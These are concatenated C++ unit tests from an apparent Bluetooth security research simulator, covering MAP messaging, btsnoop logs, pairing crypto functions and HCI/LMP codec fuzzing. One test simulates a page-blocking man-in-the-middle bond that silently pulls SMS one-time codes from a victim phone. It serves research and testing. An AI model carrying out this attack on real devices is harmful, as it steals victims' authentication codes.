  const auto messages = read_all(sim, carkit, phone);
  ASSERT_TRUE(messages.has_value());
  EXPECT_TRUE(messages->empty());
}

TEST(Map, DefaultStoreHasDemoMessages) {
  Simulation sim(132);
  Device& carkit = sim.add_device(spec("carkit", "00:00:00:00:00:01"));
  Device& phone = sim.add_device(spec("phone", "00:00:00:00:00:02"));
  const auto messages = read_all(sim, carkit, phone);
  ASSERT_TRUE(messages.has_value());
  EXPECT_EQ(messages->size(), 2u);  // the default OTP + meeting messages
}

TEST(Map, PageBlockedBondStealsOneTimeCodes) {
  // The sharpest consequence of the MITM bond: SMS one-time codes leave the
  // victim silently — the "mine sensitive information" end state with MAP.
  Simulation sim(133);
  DeviceSpec a = attacker_profile().to_spec("attacker", *BdAddr::parse("aa:aa:aa:00:00:01"));
  DeviceSpec c = accessory_profile().to_spec("headset", *BdAddr::parse("00:1b:7d:da:71:0a"),
                                             ClassOfDevice(ClassOfDevice::kHandsFree));
  c.host.io_capability = hci::IoCapability::kNoInputNoOutput;
  DeviceSpec m = table2_profiles()[5].to_spec("victim", *BdAddr::parse("48:90:12:34:56:78"));
  Device& attacker = sim.add_device(a);
  Device& accessory = sim.add_device(c);
  Device& target = sim.add_device(m);

  const auto report = PageBlockingAttack::run(sim, attacker, accessory, target, {});
  ASSERT_TRUE(report.mitm_established);
  attacker.host().disconnect(target.address());
  sim.run_for(3 * kSecond);

  const auto loot = read_all(sim, attacker, target);
  ASSERT_TRUE(loot.has_value());
  bool found_otp = false;
  for (const auto& message : *loot)
    if (message.find("one-time code") != std::string::npos) found_otp = true;
  EXPECT_TRUE(found_otp);
}

TEST(Map, UnknownHandleReportsNotFound) {
  Simulation sim(134);
  Device& carkit = sim.add_device(spec("carkit", "00:00:00:00:00:01"));
  Device& phone = sim.add_device(spec("phone", "00:00:00:00:00:02"));
  // Authenticate + open a channel manually, then ask for a bogus handle.
  bool paired = false;
  carkit.host().pair(phone.address(), [&](hci::Status s) {
    paired = s == hci::Status::kSuccess;
  });
  for (int i = 0; i < 200 && !paired; ++i) sim.run_for(100 * kMillisecond);
  ASSERT_TRUE(paired);
  const auto acls = carkit.host().acls();
  ASSERT_EQ(acls.size(), 1u);
  std::optional<std::string> body = "sentinel";
  bool got = false;
  carkit.host().l2cap().connect_channel(
      acls[0].handle, host::psm_ext3::kMap,
      [&](std::optional<host::L2capChannel> channel) {
        ASSERT_TRUE(channel.has_value());
        carkit.host().map().set_get_callback([&](std::optional<std::string> b) {
          body = std::move(b);
          got = true;
        });
        carkit.host().map().request_message(carkit.host().l2cap(), *channel, 0x9999);
      });
  sim.run_for(2 * kSecond);
  ASSERT_TRUE(got);
  EXPECT_FALSE(body.has_value());
}

}  // namespace
}  // namespace blap::core
