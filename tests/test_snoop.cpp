// Unit tests for the btsnoop (RFC 1761) HCI dump implementation.
#include <gtest/gtest.h>

#include <cstdio>

#include "hci/commands.hpp"
#include "hci/events.hpp"
#include "hci/snoop.hpp"

namespace blap::hci {
namespace {

SnoopRecord record_of(SimTime t, Direction dir, HciPacket packet) {
  SnoopRecord record;
  record.timestamp_us = t;
  record.direction = dir;
  record.packet = std::move(packet);
  return record;
}

TEST(Snoop, SerializeStartsWithMagicAndVersion) {
  SnoopLog log;
  const Bytes wire = log.serialize();
  ASSERT_GE(wire.size(), 16u);
  EXPECT_EQ(std::string(wire.begin(), wire.begin() + 8), std::string("btsnoop\0", 8));
  // version 1, datalink 1002 (big-endian)
  EXPECT_EQ(wire[11], 1);
  EXPECT_EQ((wire[14] << 8) | wire[15], 1002);
}

TEST(Snoop, RoundTripPreservesRecords) {
  SnoopLog log;
  log.append(record_of(100, Direction::kHostToController,
                       make_command(op::kCreateConnection, Bytes{1, 2, 3})));
  log.append(record_of(250, Direction::kControllerToHost,
                       make_event(ev::kConnectionComplete, Bytes{0})));
  auto parsed = SnoopLog::parse(log.serialize());
  ASSERT_TRUE(parsed.has_value());
  ASSERT_EQ(parsed->size(), 2u);
  EXPECT_EQ(parsed->records()[0].timestamp_us, 100u);
  EXPECT_EQ(parsed->records()[0].direction, Direction::kHostToController);
  EXPECT_EQ(parsed->records()[0].packet, log.records()[0].packet);
  EXPECT_EQ(parsed->records()[1].direction, Direction::kControllerToHost);
}

TEST(Snoop, FlagsEncodeDirectionAndChannel) {
  SnoopRecord cmd = record_of(0, Direction::kHostToController, make_command(op::kReset, {}));
  EXPECT_EQ(cmd.flags(), 2u);  // sent + command/event channel
  SnoopRecord evt =
      record_of(0, Direction::kControllerToHost, make_event(ev::kInquiryComplete, Bytes{0}));
  EXPECT_EQ(evt.flags(), 3u);  // received + command/event channel
  SnoopRecord acl = record_of(0, Direction::kHostToController, make_acl(1, Bytes{1}));
  EXPECT_EQ(acl.flags(), 0u);
}

TEST(Snoop, ParseRejectsBadMagic) {
  Bytes garbage = {'n', 'o', 't', 's', 'n', 'o', 'o', 'p', 0, 0, 0, 1, 0, 0, 3, 0xEA};
  EXPECT_FALSE(SnoopLog::parse(garbage).has_value());
  EXPECT_FALSE(SnoopLog::parse(Bytes{}).has_value());
}

TEST(Snoop, ParseToleratesTruncatedFinalRecord) {
  SnoopLog log;
  log.append(record_of(1, Direction::kHostToController, make_command(op::kReset, {})));
  log.append(record_of(2, Direction::kHostToController, make_command(op::kInquiry, Bytes(5))));
  Bytes wire = log.serialize();
  wire.resize(wire.size() - 3);  // cut the last record mid-payload
  auto parsed = SnoopLog::parse(wire);
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->size(), 1u);  // the complete record survives
}

TEST(Snoop, TimestampUsesSnoopEpoch) {
  SnoopLog log;
  log.append(record_of(12345, Direction::kHostToController, make_command(op::kReset, {})));
  const Bytes wire = log.serialize();
  // Timestamp starts at offset 16 (header) + 16 (record header prefix).
  ByteReader r(BytesView(wire).subspan(16));
  (void)r.u32be();  // orig_len
  (void)r.u32be();  // incl_len
  (void)r.u32be();  // flags
  (void)r.u32be();  // drops
  const auto stamp = r.u64be();
  ASSERT_TRUE(stamp.has_value());
  EXPECT_EQ(*stamp, 12345u + kSnoopEpochOffsetUs);
}

TEST(Snoop, FilterCanDropRecords) {
  SnoopLog log;
  log.set_filter([](SnoopRecord record) -> std::optional<SnoopRecord> {
    if (record.packet.type == PacketType::kAclData) return std::nullopt;
    return record;
  });
  log.append(record_of(1, Direction::kHostToController, make_acl(1, Bytes{1})));
  log.append(record_of(2, Direction::kHostToController, make_command(op::kReset, {})));
  EXPECT_EQ(log.size(), 1u);
}

TEST(Snoop, FilterCanModifyRecords) {
  SnoopLog log;
  log.set_filter([](SnoopRecord record) -> std::optional<SnoopRecord> {
    record.packet.payload.clear();
    return record;
  });
  log.append(record_of(1, Direction::kHostToController, make_command(op::kReset, {})));
  EXPECT_TRUE(log.records()[0].packet.payload.empty());
  // original_length still records the pre-filter size.
  EXPECT_GT(log.records()[0].original_length, 0u);
}

TEST(Snoop, SaveAndLoadFile) {
  SnoopLog log;
  log.append(record_of(7, Direction::kControllerToHost,
                       make_event(ev::kLinkKeyRequest, Bytes(6, 0xAB))));
  const std::string path = "/tmp/blap_test_snoop.btsnoop";
  ASSERT_TRUE(log.save(path));
  auto loaded = SnoopLog::load(path);
  ASSERT_TRUE(loaded.has_value());
  ASSERT_EQ(loaded->size(), 1u);
  EXPECT_EQ(loaded->records()[0].packet, log.records()[0].packet);
  std::remove(path.c_str());
}

TEST(Snoop, LoadMissingFileFails) {
  EXPECT_FALSE(SnoopLog::load("/tmp/blap_does_not_exist.btsnoop").has_value());
}

TEST(Snoop, FormatTableShowsFig12Columns) {
  SnoopLog log;
  log.append(record_of(1, Direction::kControllerToHost,
                       ConnectionRequestEvt{*BdAddr::parse("00:1b:7d:da:71:0a"),
                                            ClassOfDevice(0), 1}
                           .encode()));
  AcceptConnectionRequestCmd accept;
  accept.bdaddr = *BdAddr::parse("00:1b:7d:da:71:0a");
  log.append(record_of(2, Direction::kHostToController, accept.encode()));
  log.append(record_of(3, Direction::kHostToController,
                       AuthenticationRequestedCmd{0x0003}.encode()));
  const std::string table = log.format_table();
  EXPECT_NE(table.find("HCI_Connection_Request"), std::string::npos);
  EXPECT_NE(table.find("HCI_Accept_Connection_Request"), std::string::npos);
  EXPECT_NE(table.find("HCI_Authentication_Requested"), std::string::npos);
  EXPECT_NE(table.find("0x0003"), std::string::npos);  // handle column
}

TEST(Snoop, EmptyLogRoundTrip) {
  auto parsed = SnoopLog::parse(SnoopLog{}.serialize());
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->size(), 0u);
}

// Property: serialize/parse round-trips for logs of many sizes.
class SnoopRoundTrip : public ::testing::TestWithParam<int> {};

TEST_P(SnoopRoundTrip, ManyRecords) {
  SnoopLog log;
  for (int i = 0; i < GetParam(); ++i) {
    log.append(record_of(static_cast<SimTime>(i) * 100,
                         i % 2 ? Direction::kControllerToHost : Direction::kHostToController,
                         i % 3 == 0 ? make_acl(static_cast<ConnectionHandle>(i), Bytes(static_cast<std::size_t>(i % 7)))
                                    : make_command(op::kInquiry, Bytes(5))));
  }
  auto parsed = SnoopLog::parse(log.serialize());
  ASSERT_TRUE(parsed.has_value());
  ASSERT_EQ(parsed->size(), static_cast<std::size_t>(GetParam()));
  for (int i = 0; i < GetParam(); ++i) {
    EXPECT_EQ(parsed->records()[static_cast<std::size_t>(i)].packet,
              log.records()[static_cast<std::size_t>(i)].packet);
  }
}

INSTANTIATE_TEST_SUITE_P(Sizes, SnoopRoundTrip, ::testing::Values(0, 1, 2, 10, 100));

}  // namespace
}  // namespace blap::hci
