// Tests for the SSP functions f1/g/f2/f3 and Secure Connections h3/h4/h5.
#include <gtest/gtest.h>

#include "crypto/ssp_functions.hpp"

namespace blap::crypto {
namespace {

const BdAddr kA1 = *BdAddr::parse("aa:bb:cc:dd:ee:01");
const BdAddr kA2 = *BdAddr::parse("aa:bb:cc:dd:ee:02");

Rand128 rand_of(std::uint8_t fill) {
  Rand128 r{};
  r.fill(fill);
  return r;
}

struct PairingContext {
  const EcCurve& curve = EcCurve::p256();
  EcKeyPair initiator;
  EcKeyPair responder;
  U256 dhkey;

  explicit PairingContext(std::uint64_t seed) {
    Rng rng(seed);
    initiator = generate_keypair(curve, rng);
    responder = generate_keypair(curve, rng);
    dhkey = *ecdh_shared_secret(curve, initiator.private_key, responder.public_key);
  }
};

TEST(CoordinateBytes, WidthFollowsCurve) {
  const U256 v(0x1234);
  EXPECT_EQ(coordinate_bytes(EcCurve::p256(), v).size(), 32u);
  EXPECT_EQ(coordinate_bytes(EcCurve::p192(), v).size(), 24u);
}

TEST(F1, CommitmentOpensCorrectly) {
  // Responder commits to its nonce; initiator later verifies the opening.
  const PairingContext ctx(1);
  const Rand128 nonce = rand_of(0x55);
  const LinkKey commitment =
      f1(ctx.curve, ctx.responder.public_key.x, ctx.initiator.public_key.x, nonce, 0);
  // Verification recomputes with the revealed nonce.
  EXPECT_EQ(commitment,
            f1(ctx.curve, ctx.responder.public_key.x, ctx.initiator.public_key.x, nonce, 0));
  // A different nonce cannot open the commitment.
  EXPECT_NE(commitment,
            f1(ctx.curve, ctx.responder.public_key.x, ctx.initiator.public_key.x, rand_of(0x56), 0));
}

TEST(F1, BindsPublicKeys) {
  const PairingContext ctx(1);
  const PairingContext other(2);
  const Rand128 nonce = rand_of(0x55);
  EXPECT_NE(f1(ctx.curve, ctx.responder.public_key.x, ctx.initiator.public_key.x, nonce, 0),
            f1(ctx.curve, other.responder.public_key.x, ctx.initiator.public_key.x, nonce, 0));
}

TEST(F1, BindsZByte) {
  // Passkey Entry uses Z = 0x80|bit; commitments for different Z must differ.
  const PairingContext ctx(1);
  const Rand128 nonce = rand_of(0x55);
  EXPECT_NE(f1(ctx.curve, ctx.responder.public_key.x, ctx.initiator.public_key.x, nonce, 0x80),
            f1(ctx.curve, ctx.responder.public_key.x, ctx.initiator.public_key.x, nonce, 0x81));
}

TEST(G, BothSidesComputeSameSixDigits) {
  const PairingContext ctx(3);
  const Rand128 na = rand_of(0x01), nb = rand_of(0x02);
  const auto va = g(ctx.curve, ctx.initiator.public_key.x, ctx.responder.public_key.x, na, nb);
  const auto vb = g(ctx.curve, ctx.initiator.public_key.x, ctx.responder.public_key.x, na, nb);
  EXPECT_EQ(va, vb);
  EXPECT_LT(g_display(va), 1'000'000u);
}

TEST(G, MitmKeySubstitutionChangesDisplayValue) {
  // Numeric Comparison's defense: a MITM substituting its own public key
  // makes the two displays disagree (with overwhelming probability).
  const PairingContext ctx(4);
  const PairingContext mitm(5);
  const Rand128 na = rand_of(0x01), nb = rand_of(0x02);
  const auto genuine = g(ctx.curve, ctx.initiator.public_key.x, ctx.responder.public_key.x, na, nb);
  const auto attacked = g(ctx.curve, mitm.initiator.public_key.x, ctx.responder.public_key.x, na, nb);
  EXPECT_NE(genuine, attacked);
}

TEST(F2, BothSidesDeriveSameLinkKey) {
  const PairingContext ctx(6);
  // Both sides know the same DHKey after ECDH; f2 gives the shared link key.
  const U256 dh_resp =
      *ecdh_shared_secret(ctx.curve, ctx.responder.private_key, ctx.initiator.public_key);
  const Rand128 n1 = rand_of(0x0a), n2 = rand_of(0x0b);
  EXPECT_EQ(f2(ctx.curve, ctx.dhkey, n1, n2, kA1, kA2),
            f2(ctx.curve, dh_resp, n1, n2, kA1, kA2));
}

TEST(F2, BindsAddressesAndNonces) {
  const PairingContext ctx(6);
  const Rand128 n1 = rand_of(0x0a), n2 = rand_of(0x0b);
  const LinkKey base = f2(ctx.curve, ctx.dhkey, n1, n2, kA1, kA2);
  EXPECT_NE(f2(ctx.curve, ctx.dhkey, n1, n2, kA2, kA1), base);  // swapped roles
  EXPECT_NE(f2(ctx.curve, ctx.dhkey, rand_of(0x0c), n2, kA1, kA2), base);
}

TEST(F3, ChecksDifferPerIoCap) {
  const PairingContext ctx(7);
  const Rand128 n1 = rand_of(1), n2 = rand_of(2), r = rand_of(3);
  const IoCapTriplet display_yes_no{0x01, 0x00, 0x03};
  const IoCapTriplet no_input_no_output{0x03, 0x00, 0x03};
  EXPECT_NE(f3(ctx.curve, ctx.dhkey, n1, n2, r, display_yes_no, kA1, kA2),
            f3(ctx.curve, ctx.dhkey, n1, n2, r, no_input_no_output, kA1, kA2));
}

TEST(F3, BindsDhkey) {
  const PairingContext ctx(8);
  const PairingContext other(9);
  const Rand128 n1 = rand_of(1), n2 = rand_of(2), r = rand_of(3);
  const IoCapTriplet iocap{0x01, 0x00, 0x03};
  EXPECT_NE(f3(ctx.curve, ctx.dhkey, n1, n2, r, iocap, kA1, kA2),
            f3(other.curve, other.dhkey, n1, n2, r, iocap, kA1, kA2));
}

TEST(H4, DeviceKeyBindsAddresses) {
  LinkKey t{};
  t.fill(0x11);
  EXPECT_NE(h4(t, kA1, kA2), h4(t, kA2, kA1));
}

TEST(H5, SecureAuthenticationSplitsDigest) {
  LinkKey s{};
  s.fill(0x22);
  const auto out = h5(s, rand_of(0x01), rand_of(0x02));
  // SRES halves and ACO must all be distinct functions of the inputs.
  EXPECT_NE(out.sres_master, out.sres_slave);
  const auto out2 = h5(s, rand_of(0x03), rand_of(0x02));
  EXPECT_NE(out.sres_master, out2.sres_master);
  EXPECT_NE(out.aco, out2.aco);
}

TEST(H3, EncryptionKeyDerivation) {
  LinkKey t{};
  t.fill(0x33);
  std::array<std::uint8_t, 8> aco{};
  aco.fill(0x44);
  const auto k1 = h3(t, kA1, kA2, aco);
  aco[0] ^= 1;
  const auto k2 = h3(t, kA1, kA2, aco);
  EXPECT_NE(k1, k2);
}

TEST(P192AndP256, ProduceDifferentLinkKeys) {
  // Same logical inputs on different curves must not collide (different
  // coordinate widths feed the HMAC).
  Rng rng(10);
  const auto& c192 = EcCurve::p192();
  const auto& c256 = EcCurve::p256();
  const Rand128 n1 = rand_of(1), n2 = rand_of(2);
  const U256 w(0x12345678);
  EXPECT_NE(f2(c192, w, n1, n2, kA1, kA2), f2(c256, w, n1, n2, kA1, kA2));
}

}  // namespace
}  // namespace blap::crypto
