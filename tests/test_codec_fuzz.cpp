// test_codec_fuzz.cpp — seeded fuzz round-trips for the HCI and LMP codecs.
//
// Every packet that crosses the simulated HCI or the air is built by an
// encode() and consumed by a decode(); a snapshot/replay stack additionally
// depends on those being exact inverses (snoop bytes are diffed
// byte-for-byte between a rebuilt and a forked trial). This suite drives
// the codecs with deterministic pseudo-random inputs:
//
//   * encode -> decode -> encode must reproduce the first wire bytes,
//   * every strict prefix of a fixed-size parameter block must decode to
//     nullopt (truncation rejects cleanly, no UB under the ASan/UBSan CI),
//   * oversized inputs (valid block + trailing garbage) must not crash —
//     the repo's codecs read leading fields and ignore the tail, matching
//     real controllers' tolerance of padded commands.
//
// Seeds are fixed: failures reproduce exactly.
#include <gtest/gtest.h>

#include "common/rng.hpp"
#include "controller/lmp.hpp"
#include "hci/commands.hpp"
#include "hci/events.hpp"
#include "hci/packets.hpp"

namespace blap::hci {
namespace {

constexpr int kRounds = 200;

BdAddr random_addr(Rng& rng) { return BdAddr(rng.bytes<6>()); }

// --- generic H4 framing ------------------------------------------------------

TEST(CodecFuzz, H4WireRoundTrip) {
  Rng rng(0xF00D);
  constexpr PacketType kTypes[] = {PacketType::kCommand, PacketType::kAclData,
                                   PacketType::kScoData, PacketType::kEvent};
  for (int i = 0; i < kRounds; ++i) {
    HciPacket pkt;
    pkt.type = kTypes[rng.uniform(4)];
    pkt.payload = rng.buffer(rng.uniform(600));
    const Bytes wire = pkt.to_wire();
    const auto parsed = HciPacket::from_wire(wire);
    ASSERT_TRUE(parsed.has_value());
    EXPECT_EQ(*parsed, pkt);
    EXPECT_EQ(parsed->to_wire(), wire);
  }
}

TEST(CodecFuzz, H4RejectsEmptyAndUnknownType) {
  EXPECT_FALSE(HciPacket::from_wire({}).has_value());
  Rng rng(0xBEEF);
  for (int i = 0; i < kRounds; ++i) {
    Bytes wire = rng.buffer(1 + rng.uniform(64));
    wire[0] = static_cast<std::uint8_t>(5 + rng.uniform(200));  // not an H4 type
    EXPECT_FALSE(HciPacket::from_wire(wire).has_value());
  }
}

// --- typed commands ----------------------------------------------------------

// Round-trips one randomized command value: encode, reparse the wire bytes,
// decode the parameter block, re-encode, and require identical wire output.
// Then every strict prefix of the parameter block must decode to nullopt and
// trailing garbage must not crash the decoder.
template <typename Cmd, typename MakeFn>
void fuzz_command(std::uint64_t seed, MakeFn make) {
  Rng rng(seed);
  for (int i = 0; i < kRounds; ++i) {
    const Cmd cmd = make(rng);
    const HciPacket pkt = cmd.encode();
    const Bytes wire = pkt.to_wire();

    const auto reparsed = HciPacket::from_wire(wire);
    ASSERT_TRUE(reparsed.has_value());
    const auto params = reparsed->command_params();
    ASSERT_TRUE(params.has_value());

    const auto decoded = Cmd::decode(*params);
    ASSERT_TRUE(decoded.has_value());
    EXPECT_EQ(decoded->encode().to_wire(), wire);

    for (std::size_t cut = 0; cut < params->size(); ++cut)
      EXPECT_FALSE(Cmd::decode(params->subspan(0, cut)).has_value())
          << "prefix of " << cut << " bytes decoded";

    Bytes oversized = to_bytes(*params);
    const Bytes tail = rng.buffer(1 + rng.uniform(16));
    oversized.insert(oversized.end(), tail.begin(), tail.end());
    const auto padded = Cmd::decode(oversized);  // tolerated, must not crash
    if (padded.has_value()) {
      EXPECT_EQ(padded->encode().to_wire(), wire);
    }
  }
}

TEST(CodecFuzz, CreateConnectionCmd) {
  fuzz_command<CreateConnectionCmd>(1, [](Rng& rng) {
    CreateConnectionCmd cmd;
    cmd.bdaddr = random_addr(rng);
    cmd.packet_type = static_cast<std::uint16_t>(rng.next_u64());
    cmd.page_scan_repetition_mode = static_cast<std::uint8_t>(rng.uniform(3));
    cmd.reserved = 0;
    cmd.clock_offset = static_cast<std::uint16_t>(rng.next_u64());
    cmd.allow_role_switch = static_cast<std::uint8_t>(rng.uniform(2));
    return cmd;
  });
}

TEST(CodecFuzz, DisconnectCmd) {
  fuzz_command<DisconnectCmd>(2, [](Rng& rng) {
    DisconnectCmd cmd;
    cmd.handle = static_cast<ConnectionHandle>(rng.uniform(0x0EFF));
    cmd.reason = static_cast<Status>(rng.uniform(0x40));
    return cmd;
  });
}

TEST(CodecFuzz, LinkKeyRequestReplyCmd) {
  fuzz_command<LinkKeyRequestReplyCmd>(3, [](Rng& rng) {
    LinkKeyRequestReplyCmd cmd;
    cmd.bdaddr = random_addr(rng);
    cmd.link_key = rng.bytes<16>();
    return cmd;
  });
}

TEST(CodecFuzz, AuthenticationRequestedCmd) {
  fuzz_command<AuthenticationRequestedCmd>(4, [](Rng& rng) {
    AuthenticationRequestedCmd cmd;
    cmd.handle = static_cast<ConnectionHandle>(rng.uniform(0x0EFF));
    return cmd;
  });
}

TEST(CodecFuzz, SetConnectionEncryptionCmd) {
  fuzz_command<SetConnectionEncryptionCmd>(5, [](Rng& rng) {
    SetConnectionEncryptionCmd cmd;
    cmd.handle = static_cast<ConnectionHandle>(rng.uniform(0x0EFF));
    cmd.encryption_enable = static_cast<std::uint8_t>(rng.uniform(2));
    return cmd;
  });
}

// --- typed events ------------------------------------------------------------

template <typename Evt, typename MakeFn>
void fuzz_event(std::uint64_t seed, MakeFn make) {
  Rng rng(seed);
  for (int i = 0; i < kRounds; ++i) {
    const Evt evt = make(rng);
    const HciPacket pkt = evt.encode();
    const Bytes wire = pkt.to_wire();

    const auto reparsed = HciPacket::from_wire(wire);
    ASSERT_TRUE(reparsed.has_value());
    const auto params = reparsed->event_params();
    ASSERT_TRUE(params.has_value());

    const auto decoded = Evt::decode(*params);
    ASSERT_TRUE(decoded.has_value());
    EXPECT_EQ(decoded->encode().to_wire(), wire);

    for (std::size_t cut = 0; cut < params->size(); ++cut)
      EXPECT_FALSE(Evt::decode(params->subspan(0, cut)).has_value())
          << "prefix of " << cut << " bytes decoded";
  }
}

TEST(CodecFuzz, ConnectionCompleteEvt) {
  fuzz_event<ConnectionCompleteEvt>(6, [](Rng& rng) {
    ConnectionCompleteEvt evt;
    evt.status = static_cast<Status>(rng.uniform(0x40));
    evt.handle = static_cast<ConnectionHandle>(rng.uniform(0x0EFF));
    evt.bdaddr = random_addr(rng);
    evt.link_type = static_cast<std::uint8_t>(rng.uniform(2));
    evt.encryption_enabled = static_cast<std::uint8_t>(rng.uniform(2));
    return evt;
  });
}

TEST(CodecFuzz, LinkKeyNotificationEvt) {
  fuzz_event<LinkKeyNotificationEvt>(7, [](Rng& rng) {
    LinkKeyNotificationEvt evt;
    evt.bdaddr = random_addr(rng);
    evt.link_key = rng.bytes<16>();
    evt.key_type = static_cast<crypto::LinkKeyType>(rng.uniform(8));
    return evt;
  });
}

// --- LMP ---------------------------------------------------------------------

TEST(CodecFuzz, LmpPduRoundTrip) {
  Rng rng(8);
  for (int i = 0; i < kRounds; ++i) {
    controller::LmpPdu pdu;
    pdu.opcode = static_cast<controller::LmpOpcode>(
        1 + rng.uniform(static_cast<std::uint64_t>(controller::LmpOpcode::kSresSc)));
    pdu.payload = rng.buffer(rng.uniform(64));
    const Bytes frame = pdu.to_air_frame();
    const auto parsed = controller::LmpPdu::from_air_frame(frame);
    ASSERT_TRUE(parsed.has_value());
    EXPECT_EQ(parsed->opcode, pdu.opcode);
    EXPECT_EQ(parsed->payload, pdu.payload);
    EXPECT_EQ(parsed->to_air_frame(), frame);
  }
}

TEST(CodecFuzz, LmpRejectsBadFrames) {
  // Empty, wrong channel, opcode 0, opcode out of range.
  EXPECT_FALSE(controller::LmpPdu::from_air_frame({}).has_value());
  Rng rng(9);
  for (int i = 0; i < kRounds; ++i) {
    Bytes frame = rng.buffer(2 + rng.uniform(32));
    frame[0] = static_cast<std::uint8_t>(2 + rng.uniform(250));  // not kLmp/kAcl channel
    EXPECT_FALSE(controller::LmpPdu::from_air_frame(frame).has_value());
    frame[0] = 0;  // LMP channel
    frame[1] = 0;  // opcode 0 is invalid
    EXPECT_FALSE(controller::LmpPdu::from_air_frame(frame).has_value());
    frame[1] = static_cast<std::uint8_t>(
        static_cast<std::uint8_t>(controller::LmpOpcode::kSresSc) + 1 + rng.uniform(100));
    EXPECT_FALSE(controller::LmpPdu::from_air_frame(frame).has_value());
  }
  // A channel byte alone (no opcode) is truncated.
  const Bytes only_channel = {0};
  EXPECT_FALSE(controller::LmpPdu::from_air_frame(only_channel).has_value());
}

TEST(CodecFuzz, LmpTypedPayloadsRejectTruncation) {
  Rng rng(10);
  for (int i = 0; i < kRounds; ++i) {
    controller::LmpIoCap iocap;
    iocap.io_capability = static_cast<std::uint8_t>(rng.uniform(4));
    iocap.oob_data_present = static_cast<std::uint8_t>(rng.uniform(2));
    iocap.authentication_requirements = static_cast<std::uint8_t>(rng.uniform(6));
    const Bytes enc = iocap.encode();
    const auto dec = controller::LmpIoCap::decode(enc);
    ASSERT_TRUE(dec.has_value());
    EXPECT_EQ(dec->encode(), enc);
    for (std::size_t cut = 0; cut < enc.size(); ++cut)
      EXPECT_FALSE(controller::LmpIoCap::decode(BytesView(enc).subspan(0, cut)).has_value());

    controller::LmpNotAccepted na;
    na.rejected_opcode = static_cast<controller::LmpOpcode>(
        1 + rng.uniform(static_cast<std::uint64_t>(controller::LmpOpcode::kSresSc)));
    na.reason = static_cast<std::uint8_t>(rng.next_u64());
    const Bytes na_enc = na.encode();
    const auto na_dec = controller::LmpNotAccepted::decode(na_enc);
    ASSERT_TRUE(na_dec.has_value());
    EXPECT_EQ(na_dec->encode(), na_enc);
    for (std::size_t cut = 0; cut < na_enc.size(); ++cut)
      EXPECT_FALSE(
          controller::LmpNotAccepted::decode(BytesView(na_enc).subspan(0, cut)).has_value());
  }
}

}  // namespace
}  // namespace blap::hci
