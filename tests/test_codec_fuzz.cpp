// test_codec_fuzz.cpp — seeded fuzz round-trips for the HCI and LMP codecs.
//
// The check bodies live in src/fuzz/codec_harness.hpp, shared verbatim with
// the coverage-guided fuzz targets (fuzz_hci_codec / fuzz_lmp_codec): the
// property this suite asserts on randomized-but-valid values is, by
// construction, the same property the fuzzer explores on arbitrary bytes.
// Per value the harness checks:
//
//   * encode -> decode -> encode reproduces the first wire bytes,
//   * every strict prefix of the parameter block decodes to nullopt
//     (truncation rejects cleanly, no UB under the ASan/UBSan CI),
//   * a valid block + trailing garbage either rejects or decodes to the
//     same value — matching real controllers' tolerance of padded commands.
//
// Seeds are fixed: failures reproduce exactly.
#include <gtest/gtest.h>

#include "common/rng.hpp"
#include "controller/lmp.hpp"
#include "fuzz/codec_harness.hpp"
#include "hci/commands.hpp"
#include "hci/events.hpp"
#include "hci/packets.hpp"

namespace blap::hci {
namespace {

using fuzz::check_command_round_trip;
using fuzz::check_event_round_trip;
using fuzz::check_h4_round_trip;
using fuzz::check_hci_wire;
using fuzz::check_lmp_frame;
using fuzz::check_lmp_round_trip;
using fuzz::CheckResult;

constexpr int kRounds = 200;

BdAddr random_addr(Rng& rng) { return BdAddr(rng.bytes<6>()); }

// --- generic H4 framing ------------------------------------------------------

TEST(CodecFuzz, H4WireRoundTrip) {
  Rng rng(0xF00D);
  constexpr PacketType kTypes[] = {PacketType::kCommand, PacketType::kAclData,
                                   PacketType::kScoData, PacketType::kEvent};
  for (int i = 0; i < kRounds; ++i) {
    HciPacket pkt;
    pkt.type = kTypes[rng.uniform(4)];
    pkt.payload = rng.buffer(rng.uniform(600));
    const CheckResult r = check_h4_round_trip(pkt);
    ASSERT_TRUE(r.ok) << r.detail;
  }
}

TEST(CodecFuzz, H4RejectsEmptyAndUnknownType) {
  EXPECT_FALSE(HciPacket::from_wire({}).has_value());
  Rng rng(0xBEEF);
  for (int i = 0; i < kRounds; ++i) {
    Bytes wire = rng.buffer(1 + rng.uniform(64));
    wire[0] = static_cast<std::uint8_t>(5 + rng.uniform(200));  // not an H4 type
    EXPECT_FALSE(HciPacket::from_wire(wire).has_value());
  }
}

// The fuzz targets' arbitrary-input probes must accept every well-formed
// wire this suite generates — a seed input that trips the probe would make
// the fuzzer report valid traffic as a finding.
TEST(CodecFuzz, ArbitraryInputProbeAcceptsValidWires) {
  Rng rng(0xCAFE);
  for (int i = 0; i < kRounds; ++i) {
    DisconnectCmd cmd;
    cmd.handle = static_cast<ConnectionHandle>(rng.uniform(0x0EFF));
    const CheckResult r = check_hci_wire(cmd.encode().to_wire(), nullptr);
    ASSERT_TRUE(r.ok) << r.detail;

    controller::LmpPdu pdu;
    pdu.opcode = controller::LmpOpcode::kPing;
    pdu.payload = rng.buffer(rng.uniform(16));
    const CheckResult lmp = check_lmp_frame(pdu.to_air_frame(), nullptr);
    ASSERT_TRUE(lmp.ok) << lmp.detail;
  }
}

// --- typed commands ----------------------------------------------------------

// Round-trips one randomized command/event value through the shared harness
// body (round trip, strict-prefix rejection, padding tolerance).
template <typename Cmd, typename MakeFn>
void fuzz_command(std::uint64_t seed, MakeFn make) {
  Rng rng(seed);
  for (int i = 0; i < kRounds; ++i) {
    const Cmd cmd = make(rng);
    const CheckResult r = check_command_round_trip(cmd);
    ASSERT_TRUE(r.ok) << r.detail;
  }
}

TEST(CodecFuzz, CreateConnectionCmd) {
  fuzz_command<CreateConnectionCmd>(1, [](Rng& rng) {
    CreateConnectionCmd cmd;
    cmd.bdaddr = random_addr(rng);
    cmd.packet_type = static_cast<std::uint16_t>(rng.next_u64());
    cmd.page_scan_repetition_mode = static_cast<std::uint8_t>(rng.uniform(3));
    cmd.reserved = 0;
    cmd.clock_offset = static_cast<std::uint16_t>(rng.next_u64());
    cmd.allow_role_switch = static_cast<std::uint8_t>(rng.uniform(2));
    return cmd;
  });
}

TEST(CodecFuzz, DisconnectCmd) {
  fuzz_command<DisconnectCmd>(2, [](Rng& rng) {
    DisconnectCmd cmd;
    cmd.handle = static_cast<ConnectionHandle>(rng.uniform(0x0EFF));
    cmd.reason = static_cast<Status>(rng.uniform(0x40));
    return cmd;
  });
}

